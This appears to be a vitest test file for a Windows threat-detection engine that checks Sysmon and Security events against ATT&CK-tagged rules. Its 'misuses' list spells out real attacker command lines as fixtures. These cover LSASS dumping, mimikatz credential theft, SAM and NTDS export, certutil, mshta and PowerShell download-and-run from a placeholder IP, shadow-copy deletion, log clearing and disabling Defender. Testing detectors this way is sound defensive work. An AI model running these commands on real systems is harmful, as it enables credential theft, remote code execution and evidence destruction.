import { describe, expect, it } from "vitest";
import { detect, detectionRules } from "./detect.ts";
import { signatureFamily } from "./signature-family.ts";

function ofCommand(commandLine: string, fields: Record<string, string> = {}): readonly string[] {
  const image = /^"([^"]+)"|^(\S+)/.exec(commandLine);
  return detect({
    log: "Sysmon",
    id: 1,
    fields: { CommandLine: commandLine, Image: image?.[1] ?? image?.[2] ?? "", ...fields },
  }).map(({ id }) => id);
}

function ofEvent(log: string, id: number, fields: Record<string, string> = {}): readonly string[] {
  return detect({ log, id, fields }).map((detection) => detection.id);
}

const base64 = "VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABpACIA";

/** A rule and a command line that meets it. */
const misuses: readonly (readonly [string, string])[] = [
  ["lsass-dump-comsvcs", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 C:\\x.dmp full"],
  ["lsass-dump-comsvcs", '"C:\\Windows\\System32\\rundll32.exe" "comsvcs.dll" #24 612 x.dmp full'],
  ["lsass-dump-comsvcs", "rundll32 comsvcs,#+000024 612 x full"],
  ["lsass-dump-tool", "procdump64.exe -accepteula -ma lsass.exe out.dmp"],
  ["credential-tool", "m.exe privilege::debug sekurlsa::logonpasswords exit"],
  ["registry-hive-export", "reg.exe save hklm\\sam c:\\temp\\s"],
  ["ntds-export", 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q'],
  [
    "bits-download",
    "bitsadmin.exe /transfer job /download /priority high https://files.example.com/a.exe C:\\a.exe",
  ],
  ["bits-download", "bitsadmin /addfile job http://192.0.2.4/a c:\\a"],
  ["certutil-download", "certutil.exe -urlcache -split -f http://192.0.2.4/a.txt a.exe"],
  ["certutil-download", "certutil -decode in.b64 out.exe"],
  ["mshta-remote", "mshta.exe http://192.0.2.4/a.hta"],
  ["mshta-remote", 'mshta vbscript:Execute("x")'],
  ["regsvr32-scriptlet", "regsvr32 /s /n /u /i:http://192.0.2.4/a.sct scrobj.dll"],
  ["rundll32-script", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x'],
  ["rundll32-script", "rundll32.exe \\\\192.0.2.4\\share\\a.dll,Start"],
  ["installer-remote", "msiexec /q /i http://192.0.2.4/a.msi"],
  ["wmic-process-create", "wmic /node:other process call create calc.exe"],
  ["powershell-encoded", `powershell.exe -NoP -EncodedCommand ${base64}`],
  ["powershell-encoded", `powershell -w hidden -e ${base64}`],
  ["powershell-encoded", `pwsh.exe -enc "${base64}"`],
  [
    "powershell-download",
    "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a')",
  ],
  ["shadow-copies-deleted", "vssadmin.exe delete shadows /all /quiet"],
  ["log-cleared-command", "wevtutil.exe cl Security"],
  ["defender-disabled", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"],
  ["scheduled-task-command", 'schtasks /create /sc onlogon /tn upd /tr "powershell -w hidden c:\\x.ps1"'],
  ["service-command", "sc.exe \\\\server create upd binPath= c:\\x.exe"],
  ["account-command", "net user helper P@ss /add"],
  ["admin-share-command", "cmd /c copy a.exe \\\\server\\ADMIN$\\a.exe"],
  ["remote-execution-tool", "psexec.exe -accepteula \\\\server cmd"],
  ["archive-with-password", "rar.exe a -hpSecret out.rar C:\\docs"],
];

/** As much text as a condition looks at, the words in their order and each repeated. */
function crowded(words: readonly string[]): string {
  const charsEach = 8192 / words.length;
  return words.map((word) => `${word} `.repeat(charsEach / (word.length + 1))).join("");
}

describe("detection of misused programs", () => {
  it.each(misuses)("%s: %s", (id, command) => {
    expect(ofCommand(command)).toContain(id);
  });

  it.each([
    "bitsadmin /list /allusers",
    "bitsadmin /transfer job /upload",
    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    "rundll32.exe comsvcs.dll,RegisterComSvcs",
    "certutil -verify certificate.cer",
    "certutil -hashfile setup.exe SHA256",
    "powershell -File script.ps1",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\tools\\build.ps1",
    "powershell -Command Get-ChildItem -Exclude abcdefghijklmnopqrst",
    "powershell -Command Invoke-WebRequest https://example.com/health",
    "regsvr32 /s C:\\Windows\\System32\\msxml6.dll",
    "mshta.exe C:\\apps\\intranet.hta",
    "msiexec /i C:\\downloads\\setup.msi /qn",
    "msiexec.exe /V",
    "wmic os get version",
    "reg query HKLM\\Software",
    "reg save HKCU\\Software\\App app.reg",
    "schtasks /query /fo list",
    'schtasks /create /sc daily /tn backup /tr "C:\\Program Files\\Backup\\run.exe"',
    "sc query spooler",
    "net user",
    "net use z: \\\\server\\public",
    "copy a.txt \\\\server\\public\\a.txt",
    "vssadmin list shadows",
    "wevtutil qe Security /c:5",
    "procdump.exe -ma 4312 myapp.dmp",
    "7z.exe a backup.7z C:\\docs",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS",
  ])("leaves alone: %s", (command) => {
    expect(ofCommand(command)).toEqual([]);
  });

  it("sees parents that have no business with a command interpreter", () => {
    const child = { Image: "C:\\Windows\\System32\\cmd.exe" };
    expect(
      ofCommand("cmd.exe", {
        ...child,
        ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      }),
    ).toEqual(["office-child"]);
    expect(
      ofCommand("cmd.exe", { ...child, ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe" }),
    ).toEqual(["web-server-child"]);
    expect(ofCommand("cmd.exe", { ...child, ParentImage: "C:\\Windows\\explorer.exe" })).toEqual([]);
    expect(
      ofCommand("splwow64.exe 12288", {
        ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      }),
    ).toEqual([]);
  });
});

describe("detection of events", () => {
  const lsass = "C:\\Windows\\system32\\lsass.exe";

  it("sees cleared logs, and only where they are written", () => {
    expect(ofEvent("Security", 1102)).toEqual(["security-log-cleared"]);
    expect(ofEvent("System", 104, { SourceName: "Microsoft-Windows-Eventlog" })).toEqual([
      "event-log-cleared",
    ]);
    expect(ofEvent("System", 104, { SourceName: "Some-Other-Provider" })).toEqual([]);
    expect(ofEvent("Application", 1102)).toEqual([]);
  });

  it("sees LSASS opened for reading, not queried", () => {
    const by = (SourceImage: string, GrantedAccess: string) =>
      ofEvent("Sysmon", 10, { TargetImage: lsass, SourceImage, GrantedAccess });
    for (const access of ["0x1410", "0x1010", "0x1fffff", "0x1438", "0x10"])
      expect(by("C:\\Temp\\x.exe", access)).toEqual(["lsass-access"]);
    for (const access of ["0x1000", "0x1400", "0x2000", "0x40"])
      expect(by("C:\\Temp\\x.exe", access)).toEqual([]);
    expect(by("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4\\MsMpEng.exe", "0x1410")).toEqual(
      [],
    );
    expect(
      ofEvent("Sysmon", 10, {
        TargetImage: "C:\\Windows\\explorer.exe",
        SourceImage: "C:\\Temp\\x.exe",
        GrantedAccess: "0x1fffff",
      }),
    ).toEqual([]);
  });

  it("sees executables written to administrative shares, not read from them nor written elsewhere", () => {
    const write = { ShareName: "\\\\*\\C$", RelativeTargetName: "ProgramData\\a.exe", AccessMask: "0x2" };
    expect(ofEvent("Security", 5145, write)).toEqual(["admin-share-write"]);
    expect(ofEvent("Security", 5145, { ...write, AccessMask: "0x1" })).toEqual([]);
    expect(ofEvent("Security", 5145, { ...write, AccessMask: "0x120089" })).toEqual([]);
    expect(ofEvent("Security", 5145, { ...write, ShareName: "\\\\*\\Public" })).toEqual([]);
    expect(ofEvent("Security", 5145, { ...write, RelativeTargetName: "docs\\a.txt" })).toEqual([]);
  });

  it("sees suspicious services, tasks, accounts and tickets", () => {
    expect(ofEvent("System", 7045, { ImagePath: "%COMSPEC% /c echo x" })).toEqual(["service-installed"]);
    expect(ofEvent("System", 7045, { ImagePath: "C:\\Program Files\\App\\service.exe" })).toEqual([]);
    expect(
      ofEvent("Security", 4698, { TaskContent: "<Exec><Command>powershell.exe</Command></Exec>" }),
    ).toEqual(["task-registered"]);
    expect(
      ofEvent("Security", 4698, {
        TaskContent: "<Exec><Command>C:\\Program Files\\App\\update.exe</Command></Exec>",
      }),
    ).toEqual([]);
    expect(ofEvent("Security", 4720, { TargetUserName: "helper" })).toEqual(["account-created"]);
    expect(
      ofEvent("Security", 4732, { TargetSid: "S-1-5-32-544", TargetUserName: "Administrators" }),
    ).toEqual(["admin-group-changed"]);
    expect(ofEvent("Security", 4732, { TargetSid: "S-1-5-32-545", TargetUserName: "Users" })).toEqual([]);
    expect(
      ofEvent("Security", 4769, { ServiceName: "sql-svc", TicketEncryptionType: "0x17", Status: "0x0" }),
    ).toEqual(["kerberoasting"]);
    expect(
      ofEvent("Security", 4769, { ServiceName: "SERVER$", TicketEncryptionType: "0x17", Status: "0x0" }),
    ).toEqual([]);
    expect(ofEvent("Security", 4624, { LogonType: "3", IpAddress: "10.0.0.1" })).toEqual([]);
    expect(
      ofEvent("Sysmon", 11, {
        TargetFilename: "C:\\Windows\\Prefetch\\LSASS.EXE-1.pf",
        Image: "C:\\Windows\\system32\\svchost.exe",
      }),
    ).toEqual([]);
  });
});

describe("the rules", () => {
  it("have distinct ids and name ATT&CK techniques", () => {
    expect(new Set(detectionRules.map((rule) => rule.id)).size).toBe(detectionRules.length);
    for (const rule of detectionRules) expect(rule.technique).toMatch(/^T\d{4}(\.\d{3})?$/);
  });

  it("stay fast on text made to be slow", () => {
    // Processor time, which other work of the machine does not lengthen.
    const before = process.cpuUsage();
    for (const word of [
      "certutil ",
      "powershell -e ",
      "comsvcs ",
      "copy \\\\a",
      "reg save ",
      "schtasks /create /tr ",
      "'+'",
      "\\temp\\",
    ])
      ofCommand(word.repeat(4000));
    // What almost meets a rule, each of its words as often as there is room: every beginning is tried with every middle.
    for (const [, command] of misuses) {
      const words = command.split(" ");
      for (let count = 1; count <= words.length; count++) ofCommand(crowded(words.slice(0, count)));
    }
    ofCommand(crowded(["msiexec", "/i/i/i"]));
    ofCommand(crowded(["rundll32", "mshtml"]));
    expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
  });
});

describe("signature families", () => {
  it.each([
    ["ET CINS Active Threat Intelligence Poor Reputation IP group 3", "Misc Attack", "reputation"],
    ["ET WEB_SERVER Possible Directory Bruteforce", "Detection of a Network Scan", "intrusion"],
    ["ET SCAN SSH brute force login", "Attempted Information Leak", "brute-force"],
    ["ET PHISHING Credential Phish", "Possible Social Engineering Attempted", "phishing"],
    ["ET POLICY Executable download", "Potential Corporate Privacy Violation", "policy"],
    ["SURICATA HTTP Host header invalid", "Generic Protocol Command Decode", "protocol-anomaly"],
    ["Something else", "Misc activity", "other"],
  ])("%s is %s: %s", (signature, category, family) => {
    expect(signatureFamily(signature, category).id).toBe(family);
  });
});
